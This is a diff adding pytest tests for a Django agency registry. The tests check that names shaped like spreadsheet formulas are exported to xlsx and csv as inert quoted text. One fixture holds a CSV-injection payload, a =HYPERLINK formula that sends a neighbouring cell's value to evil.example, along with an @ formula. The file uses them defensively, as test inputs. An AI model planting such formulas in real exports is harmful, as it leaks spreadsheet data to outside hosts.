@@ -1,8 +1,11 @@
 """A registry file is imported whole or not at all, and importing it again changes nothing."""
 
+import io
+
 import pytest
 import tablib
 from django.utils import translation
+from openpyxl import load_workbook
 
 from agencies.models import Agency, Province
 from agencies.resources import AgencyResource, ProvinceResource, ProvincialUnitTypeResource
@@ -141,6 +144,53 @@ def test_export_then_import_as_xlsx_is_a_no_op(registry):
 
     summary = registry_import(
         resource_class=AgencyResource, dataset=tablib.Dataset().load(xlsx, format="xlsx")
+    )
+
+    assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 1)
+    assert list(Agency.objects.values()) == before
+
+
+# A link that would send the sheet's next cell to another site, and an @ formula (OWASP, "CSV
+# Injection"), in names that an exported file carries to whoever opens it.
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&B2,"ดูผล")'
+AT_FORMULA = "@SUM(1+1)"
+
+
+@pytest.fixture
+def formula_named(registry):
+    registry_import(
+        resource_class=AgencyResource,
+        dataset=csv_dataset(
+            "DRR,กรมทางหลวงชนบท,Department of Rural Roads,department,service,MOT,,,,1"
+        ),
+    )
+    Agency.objects.filter(code="DRR").update(name_th=HYPERLINK, name_en=AT_FORMULA)
+
+
+def test_xlsx_export_holds_names_like_formulas_as_text(formula_named):
+    xlsx = AgencyResource().export().export("xlsx")
+
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    name_th, name_en = sheet["B2"], sheet["C2"]
+    assert [(cell.data_type, cell.value) for cell in (name_th, name_en)] == [
+        ("s", f"'{HYPERLINK}"),
+        ("s", f"'{AT_FORMULA}"),
+    ]
+
+
+def test_csv_export_writes_names_like_formulas_as_text(formula_named):
+    (row,) = tablib.Dataset().load(AgencyResource().export().export("csv"), format="csv").dict
+
+    assert (row["name_th"], row["name_en"]) == (f"'{HYPERLINK}", f"'{AT_FORMULA}")
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_export_then_import_of_names_like_formulas_is_a_no_op(formula_named, fmt):
+    before = list(Agency.objects.values())
+    exported = AgencyResource().export().export(fmt)
+
+    summary = registry_import(
+        resource_class=AgencyResource, dataset=tablib.Dataset().load(exported, format=fmt)
     )
 
     assert (summary.created, summary.updated, summary.unchanged) == (0, 0, 1)
